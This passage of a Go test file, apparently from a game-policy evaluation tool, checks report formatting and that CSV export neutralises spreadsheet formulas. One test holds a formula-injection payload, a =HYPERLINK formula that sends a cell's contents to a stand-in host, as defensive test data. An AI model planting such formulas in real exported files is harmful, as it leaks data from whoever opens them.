	if text := report(false, false); strings.Count(text, "± n/a") != 4 || strings.Contains(text, "± 0.0") {
		t.Errorf("text:\n%s", text)
	}
	path := filepath.Join(t.TempDir(), "one.json")
	if err := os.WriteFile(path, []byte(js), 0o644); err != nil {
		t.Fatal(err)
	}
	back, err := readEvalReport(path, false)
	if err != nil || !math.IsNaN(float64(back.Policies[0].ScoreHalf)) {
		t.Errorf("read back: %v, %v", back.Policies, err)
	}
}

// TestEvalCSVDefusesFormulas: a policy's name in --csv that a spreadsheet
// would run as a formula (a remote agent names itself) is written with a
// leading apostrophe; numbers, negative ones too, are written as they are.
func TestEvalCSVDefusesFormulas(t *testing.T) {
	rep := evalReport{Schema: evalSchema, Options: env.DefaultOptions(), Policies: []policySummary{
		{Policy: `=HYPERLINK("http://x.example/?"&A1,"click") (remote)`, Games: 1},
		{Policy: "-2+3", Games: 1}, {Policy: "@SUM(A1)", Games: 1}, {Policy: "greedy", Games: 1, Score: -1.5},
	}}
	var out bytes.Buffer
	if err := writeEval(&out, rep, evalOptions{out: outputFlags{csv: true}}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil || len(rows) != 5 {
		t.Fatalf("CSV %q: %v", rows, err)
	}
	for i, want := range []string{`'=HYPERLINK("http://x.example/?"&A1,"click") (remote)`, "'-2+3", "'@SUM(A1)", "greedy"} {
		if rows[i+1][2] != want {
			t.Errorf("row %d: policy %q, want %q", i+1, rows[i+1][2], want)
		}
	}
	if rows[4][8] != "-1.5000" {
		t.Errorf("a negative mean score written %q", rows[4][8])
	}
}
